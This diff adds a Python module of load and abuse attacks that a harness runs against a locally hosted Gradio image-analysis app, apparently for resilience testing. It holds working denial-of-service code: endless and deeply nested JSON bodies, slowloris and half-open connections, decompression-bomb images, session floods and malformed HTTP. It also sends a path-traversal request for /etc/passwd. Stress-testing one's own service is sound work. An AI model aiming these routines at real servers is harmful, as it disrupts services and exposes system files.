@@ -1,0 +1,306 @@
+"""The attacks, each for as long as its target says; all of them on a server of one's own, on this machine."""
+
+import base64
+import contextlib
+import functools
+import io
+import json
+import socket
+import time
+import uuid
+from collections.abc import Callable, Iterator
+from typing import Any, Final
+
+import httpx
+import numpy as np
+from PIL import Image
+
+from support.hostile_pictures import large_canvas, large_tiles, lying_avif, many_scans, saved
+
+from .target import Target
+
+#: Addresses of Gradio's that take JSON.
+JSON_ADDRESSES: Final = ("component_server", "run/analyze_image", "cancel", "queue/join", "call/analyze_image")
+#: Bytes of a body without an end.
+ENDLESS: Final = 400_000_000
+
+
+def _pieces(start: bytes, total: int = ENDLESS) -> Iterator[bytes]:
+    yield start
+    for _ in range(total // 65_536):
+        yield b"x" * 65_536
+
+
+def endless_json(target: Target) -> None:
+    """400 MB of JSON, with and without a Content-Length."""
+
+    def send(client: httpx.Client, number: int) -> httpx.Response:
+        address = f"gradio_api/{JSON_ADDRESSES[number % len(JSON_ADDRESSES)]}"
+        headers = {"Content-Type": "application/json"}
+        if number % 2:
+            headers["Content-Length"] = str(ENDLESS)
+        return client.post(address, content=_pieces(b'{"data": ["'), headers=headers)
+
+    target.together(send, 10)
+
+
+def many_values(target: Target) -> None:
+    """A megabyte of JSON that becomes half a million objects."""
+    body = b'{"data": [' + b"[]," * 380_000 + b"[]]}"
+
+    def send(client: httpx.Client, number: int) -> httpx.Response:
+        address = f"gradio_api/{JSON_ADDRESSES[number % len(JSON_ADDRESSES)]}"
+        return client.post(address, content=body, headers={"Content-Type": "application/json"})
+
+    target.together(send, 10)
+
+
+def endless_field(target: Target) -> None:
+    """A form's text, in place of a file, without an end."""
+    start = b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n'
+
+    def send(client: httpx.Client, _: int) -> httpx.Response:
+        headers = {"Content-Type": "multipart/form-data; boundary=x"}
+        return client.post("gradio_api/upload", content=_pieces(start), headers=headers)
+
+    target.together(send, 8)
+
+
+@functools.cache
+def hostile_photos() -> list[bytes]:
+    """Scans within and over the limit, tiles, frames and canvases that are larger than they say."""
+    noise = np.random.default_rng(0).integers(0, 255, (256, 256, 3), np.uint8)
+    large = Image.fromarray(noise).resize((8_000, 6_000))
+    return [
+        many_scans(400),
+        many_scans(60),
+        many_scans(60, 2_500, 2_500),
+        large_tiles(100, 45_056),
+        lying_avif(2_000, 64),
+        large_canvas(4_500),
+        large_canvas(7_000, "PNG"),
+        saved(large, "JPEG", quality=60),
+    ]
+
+
+def photos_as_files(target: Target) -> None:
+    """Pictures that cost much, many at a time, by REST and by the page."""
+    photos = hostile_photos()
+
+    def send(client: httpx.Client, number: int) -> httpx.Response:
+        photo = photos[number % len(photos)]
+        if number % 3 == 0:
+            return client.post("page/photo?picture=1", content=photo)
+        return client.post("api/v1/analyze", files={"image": ("x", photo)})
+
+    target.together(send, 24)
+
+
+def photos_past_the_queue(target: Target) -> None:
+    """The same by the door that passes Gradio's queue by."""
+    photos = hostile_photos()
+
+    def send(client: httpx.Client, number: int) -> httpx.Response:
+        uploaded = client.post("gradio_api/upload", files={"files": ("x.jpg", photos[number % len(photos)])})
+        if uploaded.status_code != 200:
+            return uploaded
+        photo = {"path": uploaded.json()[0], "meta": {"_type": "gradio.FileData"}}
+        return client.post("gradio_api/run/analyze_image", json={"data": [photo, None]})
+
+    target.together(send, 16)
+
+
+def base64_by_rest(target: Target) -> None:
+    """Large pictures in JSON."""
+    body = json.dumps({"image": base64.b64encode(hostile_photos()[-1] + bytes(10_000_000)).decode()}).encode()
+
+    def send(client: httpx.Client, _: int) -> httpx.Response:
+        return client.post("api/v1/analyze", content=body, headers={"Content-Type": "application/json"})
+
+    target.together(send, 10)
+
+
+def webcam(target: Target) -> None:
+    """Places that are opened, used with large frames, and closed in the middle; nobody gives one back."""
+    frame = "data:image/png;base64," + base64.b64encode(large_canvas(6_000, "PNG")).decode()
+    good = "data:image/jpeg;base64," + base64.b64encode(saved(Image.new("RGB", (640, 480)), "JPEG")).decode()
+    with target.client() as client:
+        parts = client.get("config").json()["components"]
+    component = next(part["id"] for part in parts if part["props"].get("elem_id") == "webcam")
+
+    def call(client: httpx.Client, name: str, data: Any) -> httpx.Response:
+        body = {"component_id": component, "fn_name": name, "session_hash": uuid.uuid4().hex, "data": data}
+        return client.post("gradio_api/component_server", json=body)
+
+    def stream(client: httpx.Client, number: int) -> httpx.Response:
+        opened = call(client, "webcam_open", {})
+        token = opened.json().get("token") if opened.status_code == 200 else None
+        if token is None:
+            time.sleep(0.05)
+            return opened
+        call(client, "webcam_frame", {"token": token, "picture": good})
+        if number % 2:
+            call(client, "webcam_close", token)
+        return call(client, "webcam_frame", {"token": token, "picture": frame})
+
+    target.together(stream, 14)
+
+
+def slow_bodies(target: Target) -> None:
+    """A byte now and then, on many connections, to every kind of address."""
+    addresses = ("/api/v1/analyze", "/api/v1/video", "/gradio_api/upload", "/gradio_api/component_server")
+    lines: list[socket.socket] = []
+    number = 0
+    with contextlib.ExitStack() as opened:
+        while target.goes_on:
+            while len(lines) < 120:
+                address = addresses[number % len(addresses)]
+                number += 1
+                form = "multipart/form-data; boundary=x" if number % 2 else "application/json"
+                head = f"POST {address} HTTP/1.1\r\nHost: x\r\nContent-Type: {form}\r\nContent-Length: 900000\r\n\r\n"
+                with contextlib.suppress(OSError):
+                    line = opened.enter_context(target.connect())
+                    line.sendall(head.encode())
+                    lines.append(line)
+            lines = [line for line in lines if _drip(line, b"-", target)]
+            time.sleep(0.2)
+
+
+def half_open(target: Target) -> None:
+    """Connections that say nothing, or not the whole of their headers."""
+    lines: list[socket.socket] = []
+    with contextlib.ExitStack() as opened:
+        while target.goes_on:
+            for number in range(100):
+                if len(lines) >= 1_500:
+                    break
+                with contextlib.suppress(OSError):
+                    line = opened.enter_context(target.connect())
+                    line.sendall(b"GET / HTTP/1.1\r\nX: " if number % 2 else b"")
+                    lines.append(line)
+            lines = [line for line in lines if _drip(line, b"", target)]
+            time.sleep(0.1)
+
+
+def _drip(line: socket.socket, what: bytes, target: Target) -> bool:
+    """Whether the connection stands still."""
+    try:
+        line.setblocking(False)
+        said = line.recv(100)
+    except BlockingIOError:
+        with contextlib.suppress(OSError):
+            line.sendall(what)
+            return True
+        said = b""
+    except OSError:
+        said = b""
+    target.note(said[9:12].decode() if said else "closed")
+    line.close()
+    return False
+
+
+def unread_answers(target: Target) -> None:
+    """The page is asked for again and again on one connection, and nothing is read."""
+    with contextlib.ExitStack() as opened:
+        while target.goes_on:
+            with contextlib.suppress(OSError):
+                line = opened.enter_context(target.connect())
+                line.setblocking(False)
+                line.send(b"GET /config HTTP/1.1\r\nHost: x\r\n\r\n" * 200)
+            target.note("asked")
+            time.sleep(0.02)
+
+
+def session_names(target: Target) -> None:
+    """A new name each time, by each door that takes one."""
+    doors: list[Callable[[httpx.Client, str], httpx.Response]] = [
+        lambda client, name: client.post("gradio_api/run/models", json={"data": [], "session_hash": name}),
+        lambda client, name: client.post(
+            "gradio_api/component_server",
+            json={"data": 1, "component_id": 1, "fn_name": "x", "session_hash": name},
+        ),
+        lambda client, name: client.post("gradio_api/call/models", json={"data": [], "session_hash": name}),
+        lambda client, name: client.get("gradio_api/queue/data", params={"session_hash": name}),
+        lambda client, name: client.post(
+            "gradio_api/upload", params={"upload_id": name}, files={"files": ("a.txt", name.encode())}
+        ),
+        lambda client, name: client.post(
+            "gradio_api/cancel", json={"session_hash": name, "fn_index": 0, "event_id": name}
+        ),
+    ]
+
+    def send(client: httpx.Client, number: int) -> httpx.Response:
+        return doors[number % len(doors)](client, uuid.uuid4().hex)
+
+    target.together(send, 12)
+
+
+def broken_uploads(target: Target) -> None:
+    """Half of a file, and gone."""
+    head = (
+        b"POST /gradio_api/upload HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=x\r\n"
+        b'Content-Length: 90000000\r\n\r\n--x\r\nContent-Disposition: form-data; name="files"; filename="a.mp4"\r\n\r\n'
+    )
+
+    def send(_client: httpx.Client, _number: int) -> str:
+        with target.connect() as line:
+            line.sendall(head + bytes(2_000_000))
+            time.sleep(0.05)
+        return "gone"
+
+    target.together(send, 8)
+
+
+def bad_requests(target: Target) -> None:
+    """Nonsense in place of HTTP, headers without an end, names that lead elsewhere, functions that there are not."""
+    sent = [
+        b"\x16\x03\x01\x02\0\x01" * 10,
+        b"GET " + b"a" * 100_000,
+        b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 20_000,
+        b"POST /gradio_api/call/v2/nonsense HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}",
+        b"GET /gradio_api/file=../../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
+        b"POST /gradio_api/run/x HTTP/1.1\r\nHost: x\r\nContent-Type: text/x\r\nContent-Length: 4\r\n\r\nnull",
+    ]
+
+    def send(_client: httpx.Client, number: int) -> str:
+        with target.connect() as line:
+            line.sendall(sent[number % len(sent)])
+            return line.recv(100)[9:12].decode(errors="replace") or "closed"
+
+    target.together(send, 12)
+
+
+def videos(target: Target) -> None:
+    """Nonsense and pictures as videos, more than there are places for."""
+    gif = io.BytesIO()
+    frames = [Image.new("L", (1_000, 1_000), number) for number in range(30)]
+    frames[0].save(gif, "GIF", save_all=True, append_images=frames[1:], duration=0)
+
+    def send(client: httpx.Client, number: int) -> httpx.Response:
+        content = gif.getvalue() if number % 2 else b"\0\0\0\x18ftypmp42" + bytes(1_000_000)
+        answer = client.post("api/v1/video", files={"video": ("x.mp4", content)})
+        time.sleep(0.1)
+        return answer
+
+    target.together(send, 8)
+
+
+ATTACKS: Final[dict[str, Callable[[Target], None]]] = {
+    attack.__name__: attack
+    for attack in (
+        endless_json,
+        many_values,
+        endless_field,
+        photos_as_files,
+        photos_past_the_queue,
+        base64_by_rest,
+        webcam,
+        slow_bodies,
+        half_open,
+        unread_answers,
+        session_names,
+        broken_uploads,
+        bad_requests,
+        videos,
+    )
+}
